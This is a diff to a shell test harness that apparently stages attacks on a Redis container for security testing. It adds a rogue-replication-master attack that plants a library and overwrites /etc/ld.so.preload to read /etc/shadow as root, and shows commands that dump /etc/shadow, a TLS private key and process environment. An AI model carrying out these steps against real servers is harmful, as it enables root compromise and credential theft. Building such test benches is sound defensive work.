@@ -84,9 +84,15 @@ redis_bench() {
 	client redis-benchmark -h "$own_address" -a secret -q -t "$tests" -n "$n" -c "$(between 1 20)" "$@"
 }
 
+# Its first client fills it.
 ready() {
-	cli ping | grep -q PONG
+	cli ping | grep -q PONG || return
+	[ -z "$is_warm" ] || return 0
+	{ generated 1 session_work 400 && generated 2 board_work 100; } | app >/dev/null
+	is_warm=1
 }
+
+is_warm=''
 
 saved() {
 	local answer
@@ -337,7 +343,7 @@ module_load() {
 attack_module() {
 	module_load
 	harm exec '*/dash'
-	cli system.exec 'id; uname -a' | tee "$stage/answer" | grep -q uid=0
+	cli system.exec 'id; uname -a' | tee "$stage/answer" | grep uid=0
 }
 
 attack_credentials() {
@@ -345,7 +351,7 @@ attack_credentials() {
 	harm open /etc/shadow
 	harm open /etc/redis/tls/key.pem
 	cli system.exec 'cat /etc/shadow /etc/redis/tls/key.pem; cat /proc/1/environ' | tee "$stage/answer" |
-		grep -q 'PRIVATE KEY'
+		grep 'PRIVATE KEY'
 }
 
 attack_miner() {
@@ -364,21 +370,34 @@ attack_reverse_shell() {
 	thief_got uid=0
 }
 
-# The attacker's server becomes the master, and gives a library in place of a data set.
-attack_rogue_master() {
-	harm connect "$peer_address:6666"
-	harm open /var/lib/redis/exp.so
-	payload_library
-	in_network python3 "$here/rogue_master.py" "$peer_address" 6666 "$stage/payload.so" &
+# follow_rogue FILE DIR NAME: the attacker's server becomes the master, and gives a file in place of a data set.
+follow_rogue() {
+	in_network python3 "$here/rogue_master.py" "$peer_address" 6666 "$1" &
 	children[$!]=1
 	until_true "$patience" port_listens 6666
-	cli config set dbfilename exp.so
+	cli config set dir "$2"
+	cli config set dbfilename "$3"
 	cli replicaof "$peer_address" 6666
-	until_true 20 cmp -s "$stage/payload.so" "$(volume_path redis /var/lib/redis)/exp.so"
+	until_true 20 cmp -s "$1" "$(image_path redis "$2/$3")"
+	unplant
 	cli replicaof no one
-	cli config set dbfilename dump.rdb
-	cli module load /var/lib/redis/exp.so
-	cli system.exec id | tee "$stage/answer" | grep -q uid=0
+	end $!
+}
+
+# redis 7 loads no module that is not executable: so the library is one that every new program loads.
+attack_rogue_master() {
+	harm connect "$peer_address:6666"
+	harm rename-to /var/lib/redis/stats.so
+	harm rename-to /etc/ld.so.preload
+	harm mapx /var/lib/redis/stats.so
+	harm open /etc/shadow
+	thief_begin
+	preload_library "$stage/stats.so" /etc/shadow
+	echo /var/lib/redis/stats.so >"$stage/preload"
+	follow_rogue "$stage/stats.so" /var/lib/redis stats.so
+	follow_rogue "$stage/preload" /etc ld.so.preload
+	session redis "${health[@]}"
+	thief_got ^root:
 }
 
 attack_brute_force() {
